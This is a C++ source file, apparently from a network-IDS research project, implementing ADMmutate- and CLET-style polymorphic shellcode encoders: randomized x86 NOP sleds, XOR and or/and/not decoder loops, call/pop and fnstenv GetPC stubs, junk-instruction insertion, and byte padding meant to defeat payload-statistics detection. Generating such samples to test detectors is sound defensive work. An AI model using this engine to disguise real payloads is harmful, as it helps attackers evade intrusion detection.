@@ -1,0 +1,369 @@
+#include "gen/poly.hpp"
+
+#include <algorithm>
+#include <functional>
+
+#include "gen/emitter.hpp"
+
+namespace senids::gen {
+
+using util::Bytes;
+using util::ByteView;
+using util::Prng;
+
+namespace {
+
+/// One-byte instructions with NOP-like behaviour for the decoder (which
+/// initializes every register it relies on after the sled runs).
+constexpr std::uint8_t kSledPool[] = {
+    0x90,  // nop
+    0xF8,  // clc
+    0xF9,  // stc
+    0xF5,  // cmc
+    0xFC,  // cld
+    0x98,  // cwde
+    0x99,  // cdq
+    0x27,  // daa
+    0x2F,  // das
+    0x37,  // aaa
+    0x3F,  // aas
+    0x9B,  // wait
+    0xD6,  // salc
+    0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc r32 (not esp/ebp)
+    0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec r32 (not esp/ebp)
+};
+
+/// Emit 0..3 junk instructions over registers the decoder does not rely
+/// on. `free_regs` are full-width registers safe to clobber.
+void emit_junk(Asm& a, Prng& prng, const std::vector<R32>& free_regs, double prob,
+               std::size_t max_insns = 3) {
+  if (free_regs.empty()) return;
+  std::size_t n = 0;
+  while (n < max_insns && prng.chance(prob)) ++n;
+  for (std::size_t i = 0; i < n; ++i) {
+    const R32 r = prng.pick(free_regs);
+    switch (prng.below(10)) {
+      case 0: a.nop(); break;
+      case 1: a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next())); break;
+      case 2: a.add_r32_imm(r, static_cast<std::int32_t>(prng.below(0x7f)) + 1); break;
+      case 3: a.alu_r32_imm(6, r, static_cast<std::int32_t>(prng.next() & 0x7fffffff)); break;
+      case 4: a.inc_r32(r); break;
+      case 5: a.dec_r32(r); break;
+      case 6: a.test_r32_r32(r, r); break;
+      case 7:
+        // Stack-touching junk: a balanced push/pop pair (its transient
+        // store exercises the matcher's memory reasoning).
+        a.push_r32(r);
+        a.pop_r32(r);
+        break;
+      case 8:
+        a.mov_r32_r32(r, prng.pick(free_regs));
+        break;
+      default: a.cmp_r32_imm8(r, static_cast<std::int8_t>(prng.below(100))); break;
+    }
+  }
+}
+
+/// A straight-line piece of the decoder, emitted under a label.
+struct Block {
+  std::function<void(Asm&)> body;
+};
+
+/// Emit logical blocks in a (possibly shuffled) physical order, chaining
+/// logical successors with jmps where the physical layout breaks the
+/// fall-through.
+void emit_blocks(Asm& a, Prng& prng, std::vector<Block> blocks, bool shuffle,
+                 Asm::Label entry_from, bool short_jumps) {
+  const std::size_t n = blocks.size();
+  std::vector<std::size_t> order(n);
+  for (std::size_t i = 0; i < n; ++i) order[i] = i;
+  if (shuffle && n > 1) prng.shuffle(order);
+
+  std::vector<Asm::Label> labels;
+  labels.reserve(n);
+  for (std::size_t i = 0; i < n; ++i) labels.push_back(a.new_label());
+  Asm::Label exit = a.new_label();
+
+  // Route control into logical block 0.
+  a.bind(entry_from);
+  if (order.front() != 0) {
+    if (short_jumps) a.jmp_short(labels[0]); else a.jmp(labels[0]);
+  }
+
+  for (std::size_t pos = 0; pos < n; ++pos) {
+    const std::size_t logical = order[pos];
+    a.bind(labels[logical]);
+    blocks[logical].body(a);
+    const bool is_last_logical = logical + 1 == n;
+    const std::size_t next_logical = logical + 1;
+    if (is_last_logical) {
+      if (short_jumps) a.jmp_short(exit); else a.jmp(exit);
+    } else if (pos + 1 == n || order[pos + 1] != next_logical) {
+      if (short_jumps) a.jmp_short(labels[next_logical]); else a.jmp(labels[next_logical]);
+    }
+  }
+  a.bind(exit);
+}
+
+std::vector<R32> free_registers(std::initializer_list<R32> reserved) {
+  std::vector<R32> free;
+  for (unsigned i = 0; i < 8; ++i) {
+    const R32 r = static_cast<R32>(i);
+    if (r == R32::esp || r == R32::ebp || r == R32::ecx) continue;
+    if (std::find(reserved.begin(), reserved.end(), r) != reserved.end()) continue;
+    free.push_back(r);
+  }
+  return free;
+}
+
+}  // namespace
+
+util::Bytes make_nop_sled(Prng& prng, std::size_t length) {
+  Bytes sled(length);
+  for (auto& b : sled) {
+    b = kSledPool[prng.below(sizeof kSledPool)];
+  }
+  return sled;
+}
+
+PolyResult admmutate_encode(ByteView payload, Prng& prng, const PolyOptions& options) {
+  PolyResult result;
+  result.scheme = prng.chance(options.xor_scheme_prob) ? DecoderScheme::kXor
+                                                       : DecoderScheme::kAltOrAndNot;
+  result.key = static_cast<std::uint8_t>(1 + prng.below(255));
+  result.sled_len =
+      options.sled_min + prng.below(options.sled_max - options.sled_min + 1);
+
+  // Both schemes decode as enc ^ key (the alternate scheme computes xor
+  // out of or/and/not), so encoding is uniform.
+  Bytes encoded(payload.begin(), payload.end());
+  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ result.key);
+
+  // ------------------------------------------------- register assignment
+  const bool xor_scheme = result.scheme == DecoderScheme::kXor;
+  R32 rp;  // pointer register
+  if (xor_scheme) {
+    static constexpr R32 kPtrPool[] = {R32::eax, R32::ebx, R32::edx, R32::esi, R32::edi};
+    rp = kPtrPool[prng.below(5)];
+  } else {
+    rp = prng.chance(0.5) ? R32::esi : R32::edi;
+  }
+
+  // Key/temp registers must be 8-bit addressable (eax/ebx/edx) and
+  // distinct from the pointer.
+  std::vector<R32> byte_regs;
+  for (R32 r : {R32::eax, R32::ebx, R32::edx}) {
+    if (r != rp) byte_regs.push_back(r);
+  }
+  prng.shuffle(byte_regs);
+
+  // Key placement for the xor scheme: immediate, or a register built
+  // directly / by split-add / by split-xor (Figure 1(b) obfuscation).
+  enum class KeyForm { kImm, kReg, kRegSplitAdd, kRegSplitXor };
+  const KeyForm key_form =
+      !xor_scheme ? KeyForm::kImm
+                  : static_cast<KeyForm>(prng.below(4));
+  const R32 rk = byte_regs[0];
+  const R32 ra = byte_regs[0];                       // alt-scheme temps
+  const R32 rb = byte_regs.size() > 1 ? byte_regs[1] : byte_regs[0];
+
+  std::vector<R32> junk_regs = free_registers({rp, rk, ra, rb});
+
+  result.getpc = prng.chance(options.fnstenv_getpc_prob) ? GetPcMethod::kFnstenv
+                                                         : GetPcMethod::kCallPop;
+  const bool fnstenv = result.getpc == GetPcMethod::kFnstenv;
+  const std::uint8_t key = result.key;
+  const double junk = options.junk_prob;
+  const std::uint32_t count = static_cast<std::uint32_t>(encoded.size());
+
+  // Assemble one full instance. All randomness comes from `p`, so two
+  // passes from the same PRNG state produce byte-identical layouts —
+  // which the fnstenv GetPC relies on: it must add the (layout-dependent)
+  // distance from the fldz to the payload, so pass one measures with a
+  // stable-width placeholder and pass two patches the real value in.
+  // Returns {code, fldz-to-payload distance}.
+  auto assemble = [&](Prng& p, std::uint32_t fldz_dist) -> std::pair<Bytes, std::uint32_t> {
+    Asm a;
+    a.raw(make_nop_sled(p, result.sled_len));
+
+    auto lmain = a.new_label();
+    auto lget = a.new_label();
+    auto lfldz = a.new_label();
+    if (!fnstenv) {
+      a.jmp(lget);  // entry: hop over the decoder to the GetPC call
+    }
+
+    auto lloop_head = a.new_label();
+    std::vector<Block> blocks;
+    // Block 0: GetPC — leave the payload pointer in rp.
+    blocks.push_back(Block{[&, junk](Asm& x) {
+      if (fnstenv) {
+        x.bind(lfldz);
+        x.raw8(0xD9);
+        x.raw8(0xEE);  // fldz: loads FIP
+        x.raw8(0xD9);
+        x.raw8(0x74);
+        x.raw8(0x24);
+        x.raw8(0xF4);  // fnstenv [esp-12]: FIP surfaces at [esp]
+        x.pop_r32(rp);
+        // Stable 5-byte encoding regardless of the distance value.
+        x.mov_r32_imm32(R32::ecx, fldz_dist);
+        x.alu_r32_r32(0, rp, R32::ecx);  // add rp, ecx (ecx re-set below)
+      } else {
+        x.pop_r32(rp);
+      }
+      x.push_r32(rp);  // save the payload start for the post-loop ret
+      emit_junk(x, p, junk_regs, junk);
+    }});
+    // Block 1: loop counter.
+    blocks.push_back(Block{[&, junk, count](Asm& x) {
+      if (count < 256 && p.chance(0.5)) {
+        x.xor_r32_r32(R32::ecx, R32::ecx);
+        x.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(count));
+      } else {
+        x.mov_r32_imm32(R32::ecx, count);
+      }
+      emit_junk(x, p, junk_regs, junk);
+    }});
+    // Block 2: key construction (xor scheme with a register key only).
+    if (xor_scheme && key_form != KeyForm::kImm) {
+      blocks.push_back(Block{[&, junk, key](Asm& x) {
+        switch (key_form) {
+          case KeyForm::kReg:
+            x.mov_r8_imm8(low8(rk), key);
+            break;
+          case KeyForm::kRegSplitAdd: {
+            const std::uint8_t part = static_cast<std::uint8_t>(p.below(key));
+            x.mov_r32_imm32(rk, part);
+            x.alu_r32_imm(0, rk, static_cast<std::int32_t>(key - part));
+            break;
+          }
+          case KeyForm::kRegSplitXor: {
+            const std::uint32_t mask = static_cast<std::uint32_t>(p.next());
+            x.mov_r32_imm32(rk, mask);
+            x.alu_r32_imm(6, rk, static_cast<std::int32_t>(mask ^ key));
+            break;
+          }
+          case KeyForm::kImm:
+            break;
+        }
+        emit_junk(x, p, junk_regs, junk);
+      }});
+    }
+    // Final block: the decode loop. Kept atomic so the rel8 backedge
+    // always encodes; intra-loop junk is bounded for the same reason.
+    blocks.push_back(Block{[&, junk, key](Asm& x) {
+      x.bind(lloop_head);
+      if (xor_scheme) {
+        if (key_form == KeyForm::kImm) {
+          x.xor_mem8_imm8(rp, key);
+        } else {
+          x.xor_mem8_r8(rp, low8(rk));
+        }
+      } else {
+        // dec = (enc | k) & not(enc & k)  ==  enc ^ k, spelled in
+        // mov/or/and/not — the Figure 7 behaviour.
+        x.mov_r8_mem(low8(ra), rp);
+        x.alu_r8_imm8(1, low8(ra), key);   // or ra, k
+        x.mov_r8_mem(low8(rb), rp);
+        x.alu_r8_imm8(4, low8(rb), key);   // and rb, k
+        x.not_r8(low8(rb));
+        x.alu_r8_r8(4, low8(ra), low8(rb));  // and ra, rb
+        x.mov_mem_r8(rp, 0, low8(ra));
+      }
+      emit_junk(x, p, junk_regs, junk * 0.5, /*max_insns=*/2);
+      // Pointer advance: equivalent-instruction substitution.
+      switch (p.below(4)) {
+        case 0: x.inc_r32(rp); break;
+        case 1: x.add_r32_imm(rp, 1); break;
+        case 2: x.sub_r32_imm(rp, -1); break;
+        default: x.lea(rp, rp, 1); break;
+      }
+      emit_junk(x, p, junk_regs, junk * 0.5, /*max_insns=*/2);
+      // Loop-back: loop vs dec/jnz.
+      if (p.chance(0.5)) {
+        x.loop_(lloop_head);
+      } else {
+        x.dec_r32(R32::ecx);
+        x.jnz(lloop_head);
+      }
+      // Hand control to the decoded payload (start was saved by block 0).
+      x.ret();
+    }});
+
+    emit_blocks(a, p, std::move(blocks), options.out_of_order, lmain,
+                /*short_jumps=*/false);
+
+    if (!fnstenv) {
+      a.bind(lget);
+      a.call(lmain);
+    }
+    std::uint32_t measured = 0;
+    if (fnstenv) {
+      const auto fldz_off = a.label_offset(lfldz);
+      measured = static_cast<std::uint32_t>(a.size() - fldz_off.value());
+    }
+    a.raw(encoded);
+    return {a.finish(), measured};
+  };
+
+  if (fnstenv) {
+    // Probe pass on a copy measures the distance; the real pass consumes
+    // the caller's PRNG and, starting from the identical state, produces
+    // the identical layout with the distance patched in.
+    Prng probe_rng = prng;
+    const auto [probe, dist] = assemble(probe_rng, 0);
+    auto [bytes, dist2] = assemble(prng, dist);
+    if (dist2 != dist || bytes.size() != probe.size()) {
+      throw EmitError("fnstenv layout drifted between assembly passes");
+    }
+    result.bytes = std::move(bytes);
+  } else {
+    result.bytes = assemble(prng, 0).first;
+  }
+  return result;
+}
+
+PolyResult clet_encode(ByteView payload, Prng& prng, std::size_t spectrum_pad) {
+  PolyResult result;
+  result.scheme = DecoderScheme::kXor;
+  result.key = static_cast<std::uint8_t>(1 + prng.below(255));
+  result.sled_len = 4 + prng.below(12);
+
+  Bytes encoded(payload.begin(), payload.end());
+  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ result.key);
+
+  Asm a;
+  a.raw(make_nop_sled(prng, result.sled_len));
+
+  auto lmain = a.new_label();
+  auto lget = a.new_label();
+  auto lloop = a.new_label();
+  a.jmp_short(lget);
+  a.bind(lmain);
+  a.pop_r32(R32::edi);
+  a.push_r32(R32::edi);  // save the payload start for the post-loop ret
+  a.mov_r32_imm32(R32::ecx, static_cast<std::uint32_t>(encoded.size()));
+  a.bind(lloop);
+  a.xor_mem8_imm8(R32::edi, result.key);
+  a.inc_r32(R32::edi);
+  a.dec_r32(R32::ecx);
+  a.jnz(lloop);
+  a.ret();  // jump into the decoded payload
+  a.bind(lget);
+  a.call(lmain);
+  a.raw(encoded);
+
+  // Spectrum normalization: pad with English-frequency bytes so 1-gram
+  // statistics resemble text traffic (defeats payload-distribution IDS).
+  static constexpr char kSpectrum[] =
+      "etaoinshrdlucmfwypvbgkjqxz ETAOINSHRDLU0123456789 .,\r\n";
+  for (std::size_t i = 0; i < spectrum_pad; ++i) {
+    a.raw8(static_cast<std::uint8_t>(kSpectrum[prng.below(sizeof kSpectrum - 1)]));
+  }
+
+  result.bytes = a.finish();
+  return result;
+}
+
+}  // namespace senids::gen
